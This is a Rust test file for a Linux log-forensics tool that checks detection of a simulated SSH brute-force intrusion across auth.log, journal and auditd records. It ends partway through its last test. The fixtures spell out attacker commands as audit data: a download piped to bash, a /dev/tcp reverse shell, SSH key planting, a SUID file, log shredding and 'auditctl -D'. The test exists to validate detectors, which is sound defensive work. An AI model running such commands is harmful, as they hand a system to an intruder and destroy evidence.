//! Today's Linux evidence: one intrusion told three ways — `auth.log` text, systemd journal
//! files made by systemd's own `systemd-journal-remote`, and auditd's `audit.log` — must give the
//! same findings. Message texts are the daemons' own (OpenSSH `auth.c`/`auth-passwd.c`,
//! pam_unix, shadow-utils `useradd`); audit records follow the kernel's and libaudit's syntax
//! (sshd `audit-linux.c`, `audit_log_acct_message`).

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::common::*;
use logsleuth::detect::finding::{Finding, FindingsDoc};

const HOST: &str = "srv1";
const ATTACKER: &str = "203.0.113.66";
/// 2026-03-10 09:00:00 UTC.
const T0: i64 = 1_773_133_200;
const BOOT: &str = "6c7c6013a8e0446eb3c3d0a5a8b5e4f1";

/// What happened, in order: (seconds after T0, pid, program, syslog message).
fn script() -> Vec<(i64, u32, &'static str, String)> {
    let mut s = Vec::new();
    for k in 0..8u32 {
        let (t, pid) = (k as i64 * 20, 3000 + k);
        s.push((t, pid, "sshd", format!("Failed password for root from {ATTACKER} port {} ssh2", 40000 + k)));
        s.push((t, pid, "sshd", format!("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ATTACKER}  user=root")));
    }
    s.push((200, 3100, "sshd", format!("Accepted password for root from {ATTACKER} port 40100 ssh2")));
    s.push((200, 3100, "sshd", "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)".into()));
    s.push((
        260,
        3200,
        "useradd",
        "new user: name=backdoor, UID=1001, GID=1001, home=/home/backdoor, shell=/bin/bash, from=/dev/pts/0".into(),
    ));
    s
}

fn syslog_time(secs: i64) -> String {
    let t = secs - T0;
    format!("Mar 10 {:02}:{:02}:{:02}", 9 + t / 3600, t / 60 % 60, t % 60)
}

fn auth_log() -> String {
    script()
        .iter()
        .map(|(t, pid, prog, msg)| format!("{} {HOST} {prog}[{pid}]: {msg}\n", syslog_time(T0 + t)))
        .collect()
}

/// The same entries as `journalctl -o export` writes them.
fn export_stream() -> Vec<u8> {
    let mut out = Vec::new();
    for (i, (t, pid, prog, msg)) in script().iter().enumerate() {
        let us = (T0 + t) * 1_000_000 + i as i64;
        out.extend_from_slice(
            format!(
                "__REALTIME_TIMESTAMP={us}\n__MONOTONIC_TIMESTAMP={}\n_BOOT_ID={BOOT}\n_HOSTNAME={HOST}\n_TRANSPORT=syslog\nPRIORITY=5\nSYSLOG_FACILITY=10\nSYSLOG_IDENTIFIER={prog}\nSYSLOG_PID={pid}\n_PID={pid}\n_COMM={prog}\n_UID=0\nMESSAGE={msg}\n\n",
                1_000_000 + i
            )
            .as_bytes(),
        );
    }
    out
}

/// The same intrusion in auditd's records, with a kernel execve event whose records interleave
/// with a login record, as concurrent events do.
fn audit_log() -> String {
    let mut out = String::new();
    let mut serial = 500;
    let mut rec = |t: i64, kind: &str, body: &str| {
        serial += 1;
        format!("type={kind} msg=audit({}.{:03}:{serial}): {body}\n", T0 + t, 100)
    };
    for k in 0..8 {
        let (t, pid) = (k as i64 * 20, 3000 + k);
        out += &rec(t, "USER_AUTH", &format!("pid={pid} uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=PAM:authentication grantors=? acct=\"root\" exe=\"/usr/sbin/sshd\" hostname={ATTACKER} addr={ATTACKER} terminal=ssh res=failed'"));
        out += &rec(t, "USER_LOGIN", &format!("pid={pid} uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=? addr={ATTACKER} terminal=sshd res=failed'"));
    }
    out += &rec(200, "USER_AUTH", &format!("pid=3100 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication grantors=pam_unix acct=\"root\" exe=\"/usr/sbin/sshd\" hostname={ATTACKER} addr={ATTACKER} terminal=ssh res=success'"));
    out += &rec(200, "USER_LOGIN", &format!("pid=3100 uid=0 auid=0 ses=12 msg='op=login id=0 exe=\"/usr/sbin/sshd\" hostname={ATTACKER} addr={ATTACKER} terminal=/dev/pts/0 res=success'"));
    // An execve event (serial 9000) interleaved with the useradd record.
    let id = format!("{}.500:9000", T0 + 250);
    out += &format!("type=SYSCALL msg=audit({id}): arch=c000003e syscall=59 success=yes exit=0 a0=5 a1=6 a2=7 a3=0 items=2 ppid=3101 pid=3150 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=12 comm=\"useradd\" exe=\"/usr/sbin/useradd\" key=\"exec\"\n");
    out += &rec(260, "ADD_USER", "pid=3200 uid=0 auid=0 ses=12 msg='op=add-user acct=\"backdoor\" exe=\"/usr/sbin/useradd\" hostname=? addr=? terminal=pts/0 res=success'");
    out += &format!("type=EXECVE msg=audit({id}): argc=3 a0=\"useradd\" a1=\"-m\" a2=\"backdoor\"\n");
    out += &format!("type=CWD msg=audit({id}): cwd=\"/root\"\n");
    out += &format!("type=PROCTITLE msg=audit({id}): proctitle=7573657261646400{}\n", "2D6D006261636B646F6F72");
    out += &format!("type=EOE msg=audit({id}): \n");
    out
}

/// `systemd-journal-remote`, from Debian's package of that name (.ci/run installs it).
fn journal_remote() -> Option<PathBuf> {
    ["/lib/systemd/systemd-journal-remote", "/usr/lib/systemd/systemd-journal-remote"]
        .iter()
        .map(PathBuf::from)
        .find(|p| p.exists())
}

/// Converts an export stream into a genuine `.journal` file with systemd's own writer.
fn make_journal(export: &[u8], out: &Path) -> bool {
    let Some(tool) = journal_remote() else {
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "CI=true but systemd-journal-remote is missing (.ci/run installs it)"
        );
        eprintln!("skipped: systemd-journal-remote not installed (apt-get install systemd-journal-remote; .ci/run installs it)");
        return false;
    };
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("in.export");
    std::fs::write(&src, export).unwrap();
    std::fs::create_dir_all(out.parent().unwrap()).unwrap();
    let status = Command::new(tool)
        .arg(format!("--output={}", out.display()))
        .arg(&src)
        .output()
        .expect("run systemd-journal-remote");
    assert!(status.status.success(), "systemd-journal-remote: {}", String::from_utf8_lossy(&status.stderr));
    true
}

fn detect(ev: &Path, case: &Path) -> Vec<Finding> {
    ok(&["ingest", ev.to_str().unwrap(), "--case", case.to_str().unwrap(), "--year", "2026", "-q"]);
    ok(&["detect", "--case", case.to_str().unwrap(), "-q"]);
    FindingsDoc::load(&case.join("findings.json")).unwrap().findings
}

fn brute(f: &[Finding]) -> &Finding {
    f.iter().find(|x| x.rule == "ssh_bruteforce" && x.source_ip.as_deref() == Some(ATTACKER)).unwrap_or_else(|| {
        panic!("no ssh_bruteforce from {ATTACKER}: {:?}", f.iter().map(|x| &x.rule).collect::<Vec<_>>())
    })
}

/// (rule, source ip) of the findings about the attacker or the planted account.
fn verdicts(f: &[Finding]) -> Vec<(String, Option<String>)> {
    let mut v: Vec<_> = f
        .iter()
        .filter(|x| x.source_ip.as_deref() == Some(ATTACKER) || x.title.contains("backdoor"))
        .map(|x| (x.rule.clone(), x.source_ip.clone()))
        .collect();
    v.sort();
    v.dedup();
    v
}

#[test]
fn one_intrusion_from_auth_log_journal_and_audit_log() {
    let dir = tempfile::tempdir().unwrap();
    let text_ev = dir.path().join("text");
    write(&text_ev, &format!("{HOST}/var/log/auth.log"), auth_log().as_bytes());
    let text = detect(&text_ev, &dir.path().join("c-text"));
    let b = brute(&text);
    assert_eq!(b.count, 8, "eight tries, each logged by sshd and PAM, count eight");
    assert!(!b.evidence.is_empty());

    // auditd: PAM's USER_AUTH per try; sshd's USER_LOGIN failures (one per failed method,
    // `none` included) are kept but not counted as tries.
    let audit_ev = dir.path().join("audit");
    write(&audit_ev, &format!("{HOST}/var/log/audit/audit.log"), audit_log().as_bytes());
    let audit_case = dir.path().join("c-audit");
    let audit = detect(&audit_ev, &audit_case);
    let b = brute(&audit);
    assert_eq!(b.count, 8);
    assert!(b.evidence.iter().all(|e| e.file.ends_with("audit/audit.log")), "{:?}", b.evidence);
    assert!(
        b.evidence.iter().all(|e| e
            .record
            .as_deref()
            .and_then(|r| r.split_once(':'))
            .is_some_and(|(t, _)| t.parse::<f64>().is_ok_and(|t| t >= T0 as f64))),
        "audit evidence names its event id for ausearch: {:?}",
        b.evidence
    );
    let m = manifest(&audit_case);
    let rec = input(&m, &format!("{HOST}/var/log/audit/audit.log"));
    assert_eq!(rec.format.as_deref(), Some("audit"));
    assert_eq!(rec.lines, rec.events + rec.continued + rec.rejects);
    assert_eq!((rec.events, rec.continued, rec.rejects), (20, 4, 0), "16 failures, 2 logins, 1 useradd, 1 execve");
    let df = sql(&audit_case, "SELECT log_line, log_line_end, process_command_line, user_audit_id FROM events WHERE event_action = 'process.start'");
    assert_eq!(df.height(), 1);
    assert_eq!(strings(&df, "process_command_line"), vec![Some("useradd -m backdoor".to_string())]);
    assert_eq!(
        count(
            &audit_case,
            "SELECT COUNT(*) FROM events WHERE event_action = 'account.create' AND user_target_name = 'backdoor'"
        ),
        1
    );

    // The journal: the text log's entries written by systemd's own journal writer.
    let journal_ev = dir.path().join("journal");
    let file = journal_ev.join(format!("{HOST}/var/log/journal/0123456789abcdef0123456789abcdef/system.journal"));
    if !make_journal(&export_stream(), &file) {
        return;
    }
    let journal_case = dir.path().join("c-journal");
    let journal = detect(&journal_ev, &journal_case);
    let b = brute(&journal);
    assert_eq!(b.count, 8);
    assert!(b.evidence.iter().all(|e| e.file.ends_with("system.journal")));
    assert!(
        b.evidence.iter().all(|e| e.record.as_deref().is_some_and(|r| r.starts_with("s=") && r.contains(";i="))),
        "journal evidence names its cursor: {:?}",
        b.evidence
    );
    assert_eq!(verdicts(&journal), verdicts(&text), "the journal tells what auth.log tells");
    for v in verdicts(&text).iter().filter(|(r, _)| r.starts_with("ssh_") || r.contains("brute")) {
        assert!(verdicts(&audit).contains(v), "audit.log lacks {v:?}: {:?}", verdicts(&audit));
    }
    let m = manifest(&journal_case);
    let rec = m.inputs.iter().find(|r| r.path.ends_with("system.journal")).unwrap();
    assert_eq!(rec.format.as_deref(), Some("journal"));
    assert_eq!(rec.events as usize, script().len());
    let info = rec.journal.as_ref().expect("journal facts in the manifest");
    assert_eq!(info.header_entries as usize, script().len());
    assert_eq!(info.boots, vec![BOOT.to_string()]);
    assert!(info.head_realtime.is_some() && info.tail_realtime > info.head_realtime);
    assert!(!rec.damaged);
}

#[test]
fn damaged_journals_are_read_as_far_as_they_go_and_flagged() {
    let dir = tempfile::tempdir().unwrap();
    let whole = dir.path().join("whole.journal");
    if !make_journal(&export_stream(), &whole) {
        return;
    }
    let bytes = std::fs::read(&whole).unwrap();
    let ev = dir.path().join("ev");
    // The ENTRY objects (type 3), walking the objects after the header (journal-def.h).
    let u64_at = |o: usize| u64::from_le_bytes(bytes[o..o + 8].try_into().unwrap()) as usize;
    let mut entries = Vec::new();
    let mut off = u64_at(88);
    while off + 16 <= bytes.len() && u64_at(off + 8) > 0 {
        if bytes[off] == 3 {
            entries.push(off);
        }
        off = (off + u64_at(off + 8) + 7) & !7;
    }
    assert_eq!(entries.len(), script().len());
    // 1. Cut in the middle of the tenth entry: the nine before it survive.
    write(&ev, "h/var/log/journal/m/system@0001-0002.journal", &bytes[..entries[9] + 40]);
    // 2. Not closed cleanly (state online, as `*.journal~` files are) and the header's entry
    // array overwritten (its object header and items).
    let mut online = bytes.clone();
    online[16] = 1;
    let arrays = u64_at(176);
    online[arrays..arrays + 40].fill(0xff);
    write(&ev, "h/var/log/journal/m/system@0001-0003.journal~", &online);
    let case = dir.path().join("case");
    ok(&["ingest", ev.to_str().unwrap(), "--case", case.to_str().unwrap(), "-q"]);
    let m = manifest(&case);
    let cut = m.inputs.iter().find(|r| r.path.ends_with("0002.journal")).unwrap();
    assert_eq!(cut.format.as_deref(), Some("journal"));
    assert!(cut.damaged, "{cut:?}");
    assert!(
        cut.error.as_deref().unwrap().contains("truncated") || cut.error.as_deref().unwrap().contains("impossible")
    );
    assert_eq!(cut.events, 9, "the entries before the cut survive");
    let tilde = m.inputs.iter().find(|r| r.path.ends_with(".journal~")).unwrap();
    assert_eq!(tilde.format.as_deref(), Some("journal"));
    assert_eq!(tilde.journal.as_ref().unwrap().state, "online");
    assert_eq!(tilde.events as usize, script().len(), "entries are read without the entry arrays");
    assert!(tilde.damaged && tilde.error.as_deref().unwrap().contains("damaged object"), "{tilde:?}");
    assert_invariant(&case);
}

#[test]
fn compressed_and_binary_journal_fields_are_read() {
    let dir = tempfile::tempdir().unwrap();
    let long = format!("sshd: {}", "x".repeat(4000));
    let mut export = format!(
        "__REALTIME_TIMESTAMP={}\n__MONOTONIC_TIMESTAMP=1\n_BOOT_ID={BOOT}\n_HOSTNAME={HOST}\nSYSLOG_IDENTIFIER=app\nMESSAGE={long}\n\n",
        T0 * 1_000_000
    )
    .into_bytes();
    // A binary MESSAGE with a line break and an invalid byte, in export's length-prefixed form.
    let bin: &[u8] = b"two\nlines \xff";
    export.extend_from_slice(
        format!(
            "__REALTIME_TIMESTAMP={}\n__MONOTONIC_TIMESTAMP=2\n_BOOT_ID={BOOT}\nSYSLOG_IDENTIFIER=app\nMESSAGE\n",
            T0 * 1_000_000 + 1
        )
        .as_bytes(),
    );
    export.extend_from_slice(&(bin.len() as u64).to_le_bytes());
    export.extend_from_slice(bin);
    export.extend_from_slice(b"\n\n");
    let file = dir.path().join("ev/h/var/log/journal/m/system.journal");
    if !make_journal(&export, &file) {
        return;
    }
    let bytes = std::fs::read(&file).unwrap();
    let u64_at = |o: usize| u64::from_le_bytes(bytes[o..o + 8].try_into().unwrap()) as usize;
    let (mut off, mut compressed) = (u64_at(88), 0);
    while off + 16 <= bytes.len() && u64_at(off + 8) > 0 {
        compressed += usize::from(bytes[off] == 1 && bytes[off + 1] & 7 != 0);
        off = (off + u64_at(off + 8) + 7) & !7;
    }
    assert!(compressed > 0, "systemd compressed the long field");
    // The export stream itself is evidence too.
    write(&dir.path().join("ev"), "h/export.txt", &export);
    let case = dir.path().join("case");
    ok(&["ingest", dir.path().join("ev").to_str().unwrap(), "--case", case.to_str().unwrap(), "-q"]);
    for src in ["system.journal", "export.txt"] {
        let df = sql(&case, &format!("SELECT message FROM events WHERE log_file_path LIKE '%{src}' ORDER BY log_line"));
        let msgs = strings(&df, "message");
        assert_eq!(msgs[0].as_deref(), Some(long.as_str()), "{src}");
        assert_eq!(msgs[1].as_deref(), Some("two\nlines \u{fffd}"), "{src}");
    }
    assert_invariant(&case);
}

/// One kernel execve event as auditd writes it: SYSCALL, EXECVE (arguments with a space or a
/// quote hex-encoded, as the kernel does), CWD, PROCTITLE, EOE.
fn execve(t: i64, serial: u32, ses: u32, auid: u32, exe: &str, args: &[&str]) -> String {
    let id = format!("{}.200:{serial}", T0 + t);
    let comm = exe.rsplit('/').next().unwrap();
    let enc = |a: &str| {
        if a.contains([' ', '"', '\'']) || a.bytes().any(|b| !(0x21..=0x7e).contains(&b)) {
            a.bytes().map(|b| format!("{b:02X}")).collect::<String>()
        } else {
            format!("\"{a}\"")
        }
    };
    let argv: Vec<String> = args.iter().enumerate().map(|(i, a)| format!("a{i}={}", enc(a))).collect();
    let title: String = args.join("\0").bytes().map(|b| format!("{b:02X}")).collect();
    format!(
        "type=SYSCALL msg=audit({id}): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=4000 pid={} auid={auid} uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses={ses} comm=\"{comm}\" exe=\"{exe}\" key=\"exec\"\n\
         type=EXECVE msg=audit({id}): argc={} {}\n\
         type=CWD msg=audit({id}): cwd=\"/root\"\n\
         type=PROCTITLE msg=audit({id}): proctitle={title}\n\
         type=EOE msg=audit({id}): \n",
        4000 + serial,
        args.len(),
        argv.join(" ")
    )
}

/// An intrusion as auditd records it (session 12, root after the brute force: a download piped
/// to a shell, a reverse shell, `chmod +x /tmp/kit` then `/tmp/kit`, a program in /dev/shm, a
/// SUID file, a planted key, log wiping) beside an administrator's ordinary day and cron, as
/// `srv1/var/log/audit/audit.log`'s text.
pub(crate) fn intrusion_audit_log() -> String {
    let mut log = audit_log();
    let login = |t: i64, ses: u32, auid: u32, ip: &str| {
        format!("type=USER_LOGIN msg=audit({}.300:{}): pid=3300 uid=0 auid={auid} ses={ses} msg='op=login id={auid} exe=\"/usr/sbin/sshd\" hostname={ip} addr={ip} terminal=/dev/pts/1 res=success'\n", T0 + t, 7000 + ses)
    };
    // The intruder's session 12 (root's login after the brute force, audit uid 0).
    let attack: &[(&str, &[&str])] = &[
        ("/usr/bin/bash", &["bash", "-c", "curl -s http://198.51.100.7/x.sh | bash"]),
        ("/usr/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4443 0>&1"]),
        ("/usr/bin/chmod", &["chmod", "+x", "/tmp/kit"]),
        ("/tmp/kit", &["/tmp/kit", "--install"]),
        ("/dev/shm/.x", &["/dev/shm/.x"]),
        ("/usr/bin/chmod", &["chmod", "u+s", "/var/tmp/rootsh"]),
        ("/usr/bin/tee", &["tee", "-a", "/root/.ssh/authorized_keys"]),
        ("/usr/bin/shred", &["shred", "-u", "/var/log/auth.log"]),
        ("/usr/sbin/auditctl", &["auditctl", "-D"]),
    ];
    for (k, (exe, args)) in attack.iter().enumerate() {
        log += &execve(300 + k as i64 * 10, 9100 + k as u32, 12, 0, exe, args);
    }
    // An administrator's ordinary day: session 20 from the office, plus cron (no login uid).
    log += &login(1000, 20, 1001, "10.0.0.5");
    let routine: &[(u32, &str, &[&str])] = &[
        (1001, "/usr/bin/apt-get", &["apt-get", "upgrade", "-y"]),
        (
            1001,
            "/usr/bin/dash",
            &["/bin/sh", "/var/lib/dpkg/info/openssh-server.postinst", "configure", "1:9.2p1-2+deb12u3"],
        ),
        (1001, "/usr/bin/gpg", &["gpg", "--homedir", "/tmp/apt-key-gpghome.Xb4", "--verify", "Release.gpg"]),
        (
            1001,
            "/usr/bin/curl",
            &["curl", "-fsSL", "https://deb.example.org/key.gpg", "-o", "/usr/share/keyrings/example.gpg"],
        ),
        (1001, "/usr/bin/chmod", &["chmod", "644", "/etc/ssh/sshd_config"]),
        (1001, "/usr/bin/systemctl", &["systemctl", "restart", "auditd"]),
        (1001, "/usr/bin/journalctl", &["journalctl", "-u", "ssh", "--since", "today"]),
        (1001, "/usr/bin/tar", &["tar", "czf", "/var/backups/etc.tgz", "/etc"]),
        (4294967295, "/usr/bin/run-parts", &["run-parts", "--report", "/etc/cron.daily"]),
        (4294967295, "/usr/sbin/logrotate", &["/usr/sbin/logrotate", "/etc/logrotate.conf"]),
        (4294967295, "/usr/bin/find", &["find", "/var/log", "-name", "*.gz", "-mtime", "+30", "-delete"]),
    ];
    for (k, (auid, exe, args)) in routine.iter().enumerate() {
        log += &execve(
            1100 + k as i64 * 10,
            9300 + k as u32,
            if *auid == 1001 { 20 } else { 4294967295 },
            *auid,
            exe,
            args,
        );
    }
    // sshd reading a key file at a login (a watch on ~/.ssh records it) is no planting.
    log += &format!("type=SYSCALL msg=audit({}.000:9500): arch=c000003e syscall=257 success=yes exit=5 a0=ffffff9c a1=55 a2=0 a3=0 items=1 ppid=1 pid=3300 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm=\"sshd\" exe=\"/usr/sbin/sshd\" key=\"rootkey\"\ntype=PATH msg=audit({}.000:9500): item=0 name=\"/root/.ssh/authorized_keys\" inode=5 dev=fd:00 mode=0100600 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL\n", T0 + 1500, T0 + 1500);
    log
}

#[test]
fn process_rules_fire_on_an_intrusion_and_stay_quiet_on_routine_admin() {
    let log = intrusion_audit_log();
    let dir = tempfile::tempdir().unwrap();
    write(&dir.path().join("ev"), &format!("{HOST}/var/log/audit/audit.log"), log.as_bytes());
    let case = dir.path().join("case");
    let found = detect(&dir.path().join("ev"), &case);
    let process: Vec<&Finding> = found.iter().filter(|f| f.rule == "process_activity").collect();
    let kinds: BTreeSet<&str> = process.iter().filter_map(|f| f.details["kind"].as_str()).collect();
    let want = [
        "chmod_then_exec",
        "download_to_shell",
        "exec_from_tmp",
        "log_wiping",
        "reverse_shell",
        "ssh_key_planting",
        "suid_file",
    ];
    assert_eq!(
        kinds,
        want.into_iter().collect::<BTreeSet<_>>(),
        "{:#?}",
        process.iter().map(|f| &f.title).collect::<Vec<_>>()
    );
    for f in &process {
        assert_eq!(f.source_ip.as_deref(), Some(ATTACKER), "linked to the login of its audit session: {}", f.title);
        assert_eq!(f.details.get("audit_session").and_then(|s| s.as_str()), Some("12"), "{}", f.title);
        assert!(!f.evidence.is_empty());
        // Triage may raise a finding (part of an incident), never lower it.
        use logsleuth::detect::finding::Severity;
        let floor = if matches!(f.details["kind"].as_str(), Some("suid_file" | "ssh_key_planting")) {
            Severity::Medium
        } else {
            Severity::High
        };
        assert!(f.severity >= floor, "{:?} {}", f.severity, f.title);
    }
    // The sequence: the chmod and the run of the file it named, as two lines of evidence.
    let seq = process.iter().find(|f| f.details["kind"] == "chmod_then_exec").unwrap();
    assert_eq!((seq.count, seq.evidence.len()), (2, 2), "{}", seq.title);
    assert_eq!(seq.details["executed"], "/tmp/kit");
    assert_eq!(seq.details["commands"], serde_json::json!(["/tmp/kit --install", "chmod +x /tmp/kit"]));
    assert!(seq.title.ends_with("chmod +x /tmp/kit (then ran `/tmp/kit --install`)"), "{}", seq.title);
    // One finding per pattern id and actor: both programs run from a temporary folder.
    let tmp = process.iter().find(|f| f.details["kind"] == "exec_from_tmp").unwrap();
    assert_eq!((tmp.count, tmp.details["actor"].as_str()), (2, Some("audit uid 0")));
    // `process_args` is a list: a JSON array in `query --format jsonl`.
    let rows = query_jsonl(&case, "SELECT process_args FROM events WHERE process_executable = '/tmp/kit'");
    assert_eq!(rows[0]["process_args"], serde_json::json!(["/tmp/kit", "--install"]));
    let chain = found.iter().find(|f| f.rule == "attack_chain").expect("an attack chain");
    assert!(chain.title.contains("command and control") && chain.title.contains("log tampering"), "{}", chain.title);
}

#[test]
fn a_boot_without_a_shutdown_is_a_finding_and_a_clean_one_is_not() {
    let entry = |us: i64, boot: &str, prog: &str, msg: &str| {
        format!("__REALTIME_TIMESTAMP={us}\n__MONOTONIC_TIMESTAMP=1\n_BOOT_ID={boot}\n_HOSTNAME={HOST}\nSYSLOG_IDENTIFIER={prog}\n_TRANSPORT=journal\nMESSAGE={msg}\n\n")
    };
    let (b1, b2, b3) =
        ("11111111111111111111111111111111", "22222222222222222222222222222222", "33333333333333333333333333333333");
    let us = T0 * 1_000_000;
    let mut export = String::new();
    // Boot 1 ends cleanly (systemd's shutdown messages), boot 2 simply stops, boot 3 follows.
    export += &entry(us, b1, "systemd", "Started ssh.service - OpenBSD Secure Shell server.");
    export += &entry(us + 60_000_000, b1, "systemd", "Reached target shutdown.target - System Shutdown.");
    export += &entry(us + 61_000_000, b1, "systemd-journald", "Journal stopped");
    export += &entry(us + 120_000_000, b2, "kernel", "Linux version 6.1.0-18-amd64");
    export +=
        &entry(us + 180_000_000, b2, "sshd", &format!("Accepted password for root from {ATTACKER} port 4000 ssh2"));
    export += &entry(us + 900_000_000, b3, "kernel", "Linux version 6.1.0-18-amd64");
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join(format!("ev/{HOST}/var/log/journal/m/system.journal"));
    if !make_journal(export.as_bytes(), &file) {
        return;
    }
    let case = dir.path().join("case");
    let found = detect(&dir.path().join("ev"), &case);
    let boots: Vec<&Finding> = found
        .iter()
        .filter(|f| {
            f.rule == "log_integrity" && f.details.get("kind").and_then(|k| k.as_str()) == Some("boot without shutdown")
        })
        .collect();
    assert_eq!(boots.len(), 1, "{:?}", boots.iter().map(|f| &f.title).collect::<Vec<_>>());
    assert_eq!(boots[0].details["previous_boot"], b2);
    assert_eq!(boots[0].evidence.len(), 2, "the last entry of the old boot and the first of the new");
}

#[test]
fn timeline_grep_finds_text_in_messages_and_raw_lines() {
    let dir = tempfile::tempdir().unwrap();
    let ev = dir.path().join("ev");
    let mut log = auth_log();
    log += &format!("Mar 10 09:05:00 {HOST} sudo:     root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/wget http://{ATTACKER}:8080/u.sh\n");
    write(&ev, &format!("{HOST}/var/log/auth.log"), log.as_bytes());
    write(&ev, &format!("{HOST}/var/log/audit/audit.log"), audit_log().as_bytes());
    let case = dir.path().join("case");
    ok(&["ingest", ev.to_str().unwrap(), "--case", case.to_str().unwrap(), "--year", "2026", "-q"]);
    let c = case.to_str().unwrap();
    // An address named in a command, which --ip (address fields only) does not find.
    let out = ok(&["timeline", "--case", c, "--grep", &format!("{ATTACKER}:8080"), "--format", "jsonl"]);
    assert_eq!(out.lines().count(), 1, "{out}");
    assert!(out.contains("u.sh"));
    // Case-insensitive, and --grep-raw reads the line as written (audit's hex stays hex there).
    let out = ok(&["timeline", "--case", c, "--grep", "NEW USER: NAME=BACKDOOR", "--format", "jsonl"]);
    assert_eq!(out.lines().count(), 1, "{out}");
    let none = run(&["timeline", "--case", c, "--grep", "no-such-text", "--format", "jsonl"]);
    assert_eq!(none.status.code(), Some(1), "no match exits 1, like grep");
    let out = ok(&["timeline", "--case", c, "--grep-raw", "a0=\"useradd\"", "--format", "jsonl"]);
    assert_eq!(out.lines().count(), 1, "{out}");
    // pivot lists the events that name the address only in their text.
    let out = ok(&["pivot", "--case", c, "--ip", ATTACKER]);
    assert!(out.contains("mentioned in messages (1;") && out.contains("u.sh"), "{out}");
    // A pattern that is no regular expression is a usage error.
    let bad = run(&["timeline", "--case", c, "--grep", "("]);
    assert_eq!(bad.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&bad.stderr).contains("not a regular expression"));
}

/// journald's own words for deleting archived journals (systemd's journal-vacuum.c: `Deleted
/// archived journal %s (%s).` for each file, `Vacuuming done, freed %s of archived journals from
/// %s.` at the end), as rsyslog writes them to /var/log/syslog, are one finding per host; a web
/// request that merely names the words is not.
#[test]
fn journald_vacuuming_in_syslog_is_a_finding_and_a_web_request_naming_it_is_not() {
    let dir = tempfile::tempdir().unwrap();
    let ev = dir.path().join("ev");
    let j = "/var/log/journal/8d45620c1a9a4a3b9a6e0f3c2d1b0a99";
    let syslog = format!(
        "Mar 10 09:00:00 {HOST} systemd-journald[312]: Deleted archived journal {j}/system@3c5bd47e1e2f4c6aa6d2bd6b1f8d2f11-0000000000000001-00061a2b3c4d5e6f.journal (8.0M).\n\
         Mar 10 09:00:00 {HOST} systemd-journald[312]: Deleted archived journal {j}/user-1000@3c5bd47e1e2f4c6aa6d2bd6b1f8d2f11-0000000000000412-00061a2b3c4d6a10.journal (8.0M).\n\
         Mar 10 09:00:01 {HOST} systemd-journald[312]: Vacuuming done, freed 16.0M of archived journals from {j}.\n\
         Mar 10 09:00:02 {HOST} systemd[1]: Started session-4.scope - Session 4 of User root.\n"
    );
    write(&ev, &format!("{HOST}/var/log/syslog"), syslog.as_bytes());
    let access = format!("{ATTACKER} - - [10/Mar/2026:09:01:00 +0000] \"GET /Deleted%20archived%20journal HTTP/1.1\" 404 196 \"-\" \"curl/8.5.0\"\n");
    write(&ev, "web1/var/log/apache2/access.log", access.as_bytes());
    let case = dir.path().join("case");
    let found = detect(&ev, &case);
    let vacuum: Vec<&Finding> = found
        .iter()
        .filter(|f| {
            f.rule == "log_integrity" && f.details.get("kind").and_then(|k| k.as_str()) == Some("journal vacuumed")
        })
        .collect();
    assert_eq!(vacuum.len(), 1, "{:?}", vacuum.iter().map(|f| &f.title).collect::<Vec<_>>());
    assert_eq!(vacuum[0].host_name.as_deref(), Some(HOST));
    assert_eq!(vacuum[0].count, 3, "{}", vacuum[0].title);
    assert_eq!(vacuum[0].evidence.len(), 3);
    assert!(vacuum[0].evidence.iter().all(|e| e.file.ends_with("var/log/syslog")));
    // A second detect reads the lines back from the table the first stored in the case.
    assert_eq!(stored(&case, "vacuum-").len(), 1);
    ok(&["detect", "--case", case.to_str().unwrap(), "-q"]);
    let again = FindingsDoc::load(&case.join("findings.json")).unwrap().findings;
    let same: Vec<&Finding> = again.iter().filter(|f| f.details.get("kind") == vacuum[0].details.get("kind")).collect();
    assert_eq!(same.len(), 1);
    assert_eq!((&same[0].title, &same[0].evidence), (&vacuum[0].title, &vacuum[0].evidence));
}

/// `chmod_then_exec` over sudo's `COMMAND=` lines (sudo's log format: `user : TTY=… ; PWD=… ;
/// USER=… ; COMMAND=…`): the run must be of a file the chmod named (several files, options before
/// the mode, a chmod inside `bash -c … && …`), on the same host, within the window; a file named
/// after a `;` was not made executable by that chmod.
#[test]
fn chmod_then_exec_follows_the_files_the_chmod_names() {
    let line = |min: u32, host: &str, cmd: &str| {
        format!(
            "Dec  4 {:02}:{:02}:00 {host} sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND={cmd}\n",
            10 + min / 60,
            min % 60
        )
    };
    let mut h1 = String::new();
    h1 += &line(0, "h1", "/usr/bin/chmod -v 755 /opt/tools/a.sh /opt/tools/b.sh");
    h1 += &line(1, "h1", "/opt/tools/b.sh --run");
    h1 += &line(2, "h1", "/bin/bash -c chmod u+x run.sh && ./run.sh");
    h1 += &line(3, "h1", "/home/bob/run.sh");
    h1 += &line(4, "h1", "/usr/bin/chmod +x /tmp/x; cp /tmp/y /tmp/z");
    h1 += &line(5, "h1", "/tmp/y");
    h1 += &line(6, "h1", "/usr/bin/chmod +x /srv/late");
    h1 += &line(6 + 120, "h1", "/srv/late");
    h1 += &line(7, "h1", "/usr/bin/chmod +x /srv/elsewhere");
